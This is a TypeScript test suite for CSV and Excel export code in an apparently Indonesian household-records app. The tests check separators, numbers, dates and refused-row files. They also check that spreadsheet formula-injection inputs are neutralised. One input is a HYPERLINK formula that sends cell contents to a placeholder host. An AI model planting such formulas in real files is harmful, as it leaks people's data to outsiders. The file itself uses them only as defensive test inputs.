import ExcelJS from "exceljs";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { refusedRowsFile } from "~/exports/refused-rows.server";
import { writeCsv } from "~/exports/write-csv.server";
import { writeTable } from "~/exports/write-table.server";
import { writeXlsx } from "~/exports/write-xlsx.server";
import { matchColumns } from "~/imports/columns";
import { guardCell, unguardCell } from "~/shared/csv-guard";
import { collected, csv, fieldFile, read, rowsOf, texts, headerXml, workbook } from "../imports/reading";

const dangerous = ['=HYPERLINK("http://contoh.invalid?x="&A1;"klik")', "@SUM(1)", "+1+1", "-2+3", "\tx", "\rx", "'=1", "''@x", "=", "'"];
// Any text, leaning to what breaks tables.
const anyText = fc.oneof(
  fc.string({ unit: "binary" }),
  fc.string({ unit: fc.constantFrom('"', "'", ";", ",", "\t", "\n", "\r", "=", "+", "-", "@", " ", "a", "’", "\u0000", "_x000D_", "&", "<") }),
  fc.constantFrom(...dangerous),
);
/** What no file can hold is left out on purpose. */
const storable = (text: string) => text.replace(/[\u0000\uD800-\uDFFF]/gu, "");

describe("CSV written for people", () => {
  it("has one byte-order mark, the separator of the language, and CRLF", async () => {
    const rows = [["Keluarga Bu Tini", 1500000n], ["A;B", null]];
    expect((await collected(writeCsv(["keluarga", "jumlah"], rows, { locale: "id" }))).toString()).toBe("\uFEFFkeluarga;jumlah\r\nKeluarga Bu Tini;1500000\r\n\"A;B\";\r\n");
    expect((await collected(writeCsv(["keluarga"], [["A,B"]], { locale: "en" }))).toString()).toBe('\uFEFFkeluarga\r\n"A,B"\r\n');
  });

  it.each(dangerous)("%j is no formula in the file, and itself again when read (C120)", async (text) => {
    const file = await collected(writeCsv(["nama", "catatan"], [["Sarmi", text]], { locale: "id" }));
    const fields = file.toString().split("\r\n")[1] ?? "";
    expect(fields.replace(/^Sarmi;"?/, "")).toMatch(/^'/);
    expect((await read(file)).rows[0]?.cells[1]?.text).toBe(text);
  });

  it("numbers are no formulas: a negative amount stays a number, a lone dash stays unknown", async () => {
    const file = await collected(writeCsv(["a", "b", "c"], [[-500000n, "-", -1.5]], { locale: "id" }));
    expect(file.toString().split("\r\n")[1]).toBe('-500000;-;"-1,5"');
  });

  it("decimals cannot pass for thousands", async () => {
    const columns = ["nama", { header: "kurs", type: "number" as const }];
    const lines = async (locale: "id" | "en") => (await collected(writeCsv(columns, [["x", "2.125"], ["y", "3450.25"]], { locale }))).toString().split("\r\n").slice(1, 3);
    expect(await lines("id")).toEqual(['x;"2,1250"', 'y;"3450,25"']);
    expect(await lines("en")).toEqual(["x,2.1250", "y,3450.25"]);
  });

  it("the guard is undone exactly, for any text", () => {
    fc.assert(fc.property(anyText, (text) => unguardCell(guardCell(text)) === text));
  });

  it("whatever is written is read back, in every dialect", { timeout: 60_000 }, async () => {
    const row = fc.array(anyText, { minLength: 2, maxLength: 2 });
    await fc.assert(fc.asyncProperty(fc.array(row, { maxLength: 6 }), fc.constantFrom(";", ",", "\t", "|"), async (rows, delimiter) => {
      const values = rows.map((cells, at) => [`Orang ${at}`, ...cells]);
      const file = await collected(writeCsv(["nama", "alamat", "catatan"], values, { delimiter }));
      const back = await read(file);
      expect(back.table.delimiter).toBe(delimiter);
      expect(texts(back)).toEqual(values.map((cells, at) => [at + 2, ...cells.map(storable)]));
    }), { numRuns: 300 });
  });
});

describe("workbooks written for people", () => {
  const columns = [{ header: "nik" }, { header: "nama" }, { header: "jumlah", type: "number" as const }, { header: "tanggal", type: "date" as const }, { header: "lulus" }];
  const rows = [["5203010307950008", "=1+1", 2590000n, "2025-05-17", true], ["9171020505920007", " Siti ", "3450.25", "1899-01-01", null], ["x", "a\r\nb _x000D_", 9007199254740993n, null, false]];

  it("an independent reader finds identifiers as text with format @, true numbers, days and booleans (C003)", async () => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await collected(writeXlsx(columns, rows, { sheetName: "Data [1]/2" }))) as unknown as ExcelJS.Buffer);
    const sheet = book.worksheets[0]!;
    expect(sheet.name).toBe("Data  1  2");
    const cell = (address: string) => sheet.getCell(address);
    expect(cell("A2")).toMatchObject({ type: ExcelJS.ValueType.String, value: "5203010307950008", numFmt: "@" });
    expect(cell("B2")).toMatchObject({ type: ExcelJS.ValueType.String, value: "=1+1", numFmt: "@" });
    expect(cell("C2")).toMatchObject({ type: ExcelJS.ValueType.Number, value: 2590000, numFmt: "#,##0" });
    expect(cell("D2").value).toEqual(new Date("2025-05-17T00:00:00Z"));
    expect(cell("E2").value).toBe(true);
    expect(cell("C3").value).toBe(3450.25);
    expect(cell("C4").value).toBe("9007199254740993");
    expect(cell("A50").style.numFmt ?? sheet.getColumn(1).style.numFmt).toBe("@");
  });

  it("our reader gives back what was written", async () => {
    expect(texts(await read(await collected(writeXlsx(columns, rows))))).toEqual([
      [2, "5203010307950008", "=1+1", "2590000", "2025-05-17", "ya"],
      [3, "9171020505920007", " Siti ", "3450.25", "1899-01-01", ""],
      [4, "x", "a\r\nb _x000D_", "9007199254740993", "", "tidak"],
    ]);
  });

  it("whatever text is written is read back", { timeout: 60_000 }, async () => {
    await fc.assert(fc.asyncProperty(fc.array(anyText, { maxLength: 8 }), async (cells) => {
      const values = cells.map((text, at) => [`Orang ${at}`, text]);
      expect(texts(await read(await collected(writeXlsx(["nama", "catatan"], values))))).toEqual(values.map(([name = "", text = ""], at) => [at + 2, name, storable(text)]));
    }), { numRuns: 150 });
  });
});

describe("long exports (C057)", () => {
  async function* remittances(count: number) {
    for (let at = 1; at <= count; at += 1) yield [`Keluarga ${at}`, "3504011708900001", BigInt(at) * 1000n, "2025-05-17"];
  }
  const columns = ["keluarga", "nik_pengirim", { header: "jumlah_terima", type: "number" as const }, { header: "tanggal_terima", type: "date" as const }];

  it.each([["csv", 30_001], ["csv", 70_000], ["xlsx", 30_001], ["xlsx", 70_000]] as const)("%s of %d rows holds every one", { timeout: 120_000 }, async (format, count) => {
    const { table } = await read(await collected(writeTable(format, columns, remittances(1), { language: "id" })));
    expect(table.headers).toEqual(["keluarga", "nik_pengirim", "jumlah_terima", "tanggal_terima"]);
    const { rows } = await read(await collected(writeTable(format, columns, remittances(count), { language: "id" })));
    expect(rows).toHaveLength(count);
    expect(rows.at(-1)?.cells.map(({ text }) => text)).toEqual([`Keluarga ${count}`, "3504011708900001", String(count * 1000), "2025-05-17"]);
  });

  it("a failing source fails the export instead of ending it early", async () => {
    async function* broken() {
      yield ["Keluarga 1"];
      throw new Error("sumber putus");
    }
    await expect(collected(writeXlsx(["keluarga"], broken()))).rejects.toThrow("sumber putus");
    await expect(collected(writeCsv(["keluarga"], broken(), { locale: "id" }))).rejects.toThrow("sumber putus");
  });
});

describe("the file of refused rows", () => {
  const refusedOf = async (reading: Awaited<ReturnType<typeof read>>, reason = "Tidak dapat dibaca") =>
    collected(refusedRowsFile(reading.table, reading.rows.map((row) => ({ ...row, reason })), "id"));

  it("has the headers, delimiter and texts of the file, one column more, and one byte-order mark (C040)", async () => {
    const first = await read(fieldFile("g01-bom-nik.csv"));
    const file = await refusedOf(first);
    expect(file.toString().match(/\uFEFF/g)).toHaveLength(1);
    const again = await read(file);
    expect(again.table.headers).toEqual([...first.table.headers, "alasan_ditolak"]);
    expect(again.table.delimiter).toBe(",");
    expect(again.rows.map(({ cells }) => cells.slice(0, 4))).toEqual(first.rows.map(({ cells }) => cells));
    expect(matchColumns("households", again.table.headers).unknown).toEqual(["alasan_ditolak"]);
  });

  it("brought back and refused again it has one reason column, the new one", async () => {
    const again = await read(await refusedOf(await csv("nama,kode_desa\nSarmi,x\n"), "lama"));
    const third = await read(await refusedOf(again, "baru"));
    expect(third.table.headers).toEqual(["nama", "kode_desa", "alasan_ditolak"]);
    expect(texts(third)).toEqual([[2, "Sarmi", "x", "baru"]]);
  });

  it("a row with a wrong number of fields keeps one, so that it is not read shifted", async () => {
    const again = await read(await refusedOf(await csv("nama,alamat,catatan\nA,b,c,d\nE,f\n"), "jumlah kolom"));
    expect(again.rows.map(({ problem }) => problem)).toEqual(["column_count", "column_count"]);
    expect(again.rows.map(({ cells }) => cells[3]?.text)).toEqual(["jumlah kolom", "jumlah kolom"]);
  });

  it("an identifier that lost digits is no identifier in it either, and days and numbers keep their kind", async () => {
    const first = await read(fieldFile("g20-sel-kaya.xlsx"));
    const again = await read(await refusedOf(first));
    expect(again.table.format).toBe("xlsx");
    expect(again.rows[1]?.cells[3]).toEqual({ text: "3.50402E+15", kind: "text", note: "lost_digits" });
    expect(again.rows[0]?.cells[4]).toMatchObject({ text: "2590000", kind: "number" });
    const days = await read(await refusedOf(await read(fieldFile("g21-tahun-1904.xlsx"))));
    expect(days.rows.map(({ cells }) => cells[1])).toMatchObject([{ text: "2025-05-17", kind: "date" }, { text: "1990-08-17", kind: "date" }]);
  });

  it("a workbook cell in a CSV of refused rows stays refused too", async () => {
    const file = await workbook(`${headerXml("nik", "nama")}<row r="2"><c r="A2"><v>3504015203870000</v></c></row>`);
    const { table, rows } = await read(file);
    const asCsv = refusedRowsFile({ ...table, format: "csv", delimiter: ";" }, rows.map((row) => ({ ...row, reason: "x" })), "id");
    expect((await read(await collected(asCsv))).rows[0]?.cells[0]).toMatchObject({ text: "3,50402E+15", note: "lost_digits" });
  });

  it("rows may be read again from the same table, as preview and commit do (C135)", async () => {
    const { table, rows } = await read(fieldFile("g02-kiriman-titik-koma.csv"));
    expect(await rowsOf(table)).toEqual(rows);
  });
});
